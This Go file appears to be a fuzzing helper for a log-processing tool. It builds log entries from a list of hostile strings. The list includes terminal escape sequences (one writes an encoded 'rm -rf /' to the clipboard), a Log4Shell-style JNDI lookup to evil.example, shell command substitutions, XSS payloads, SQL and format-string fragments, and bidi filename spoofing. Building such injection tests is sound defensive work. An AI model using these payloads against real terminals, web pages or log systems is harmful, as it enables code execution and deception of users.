package abuse

import (
	"fmt"
	"math/rand/v2"
	"strings"

	loggerv1 "github.com/seed-2f16ea30/logsieve/gen/logger/v1"
)

// hostile are pieces of text that do something to a terminal, a page or a parser.
// Colours among them have the number 99, so that they are told from our own.
var hostile = []string{
	"\x1b[99m", "\x1b[5;99;41m", "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b[6n", "\x1b[c", "\x1b[?1049h", "\x1b[?25l", "\x1bc", "\x1b(0",
	"\x1b]0;title\x07", "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]1337;File=:AAAA\x07",
	"\x1bP+q544e\x1b\\", "\x1b_Gf=32;AAAA\x1b\\", "\x1b^private\x1b\\", "\x1bX start", "\x1bPq#0;2;0;0;0\x1b\\",
	"\u009b99m", "\u009d0;title\u009c", "\u0090q\u009c", "\u0085", "\u008d",
	"\x00", "\x07", "\x08\x08\x08", "\x0b", "\x0c", "\r", "\rOK  all is well", "\x0e", "\x0f", "\x1a", "\x7f", "\x11\x13", "\x05",
	"\u202eexe.gpj", "\u202d", "\u202a\u202c", "\u2066\u2069", "\u2067", "\u200e\u200f", "\u061c", "\u2028", "\u2029",
	"\nERROR forged line", "\r\nforged", "%s%n%x", "${jndi:ldap://evil.example/a}", "`id`", "$(id)", "';--", "{{.}}",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "</textarea><svg/onload=alert(1)>",
	"plain", " ", "日本", "é", "👩‍👩‍👧", "عربى", "\t", "\\", "\"", "\ufffd", "\ufeff", "\U000e0001",
}

// malice draws hostile text.
type malice struct{ *rand.Rand }

func newMalice(seed uint64) malice { return malice{rand.New(rand.NewPCG(seed, 7))} }

// text returns some of it in a row.
func (m malice) text(pieces int) string {
	var b strings.Builder
	for range 1 + m.IntN(pieces) {
		b.WriteString(hostile[m.IntN(len(hostile))])
	}
	return b.String()
}

// entry returns an entry that is hostile in every part.
func (m malice) entry(service string) *loggerv1.LogEntry {
	e := &loggerv1.LogEntry{
		Service: service, Host: m.text(2), Message: m.text(6), Severity: loggerv1.Severity(1 + m.IntN(6)),
		Attributes: map[string]string{m.text(2): m.text(3), "user": m.text(3)},
	}
	if m.IntN(10_000) == 0 {
		e.Message = strings.Repeat(e.GetMessage()+"x", 2_000)
	}
	return e
}

// line returns a line that is not even text.
func (m malice) line() string {
	b := []byte(strings.NewReplacer("\n", "", "\r", "").Replace(m.text(6)))
	for range 1 + m.IntN(4) {
		at := m.IntN(len(b) + 1)
		b = append(b[:at], append([]byte{byte(0x80 + m.IntN(0x80))}, b[at:]...)...)
	}
	return fmt.Sprintf("%s\n", b)
}
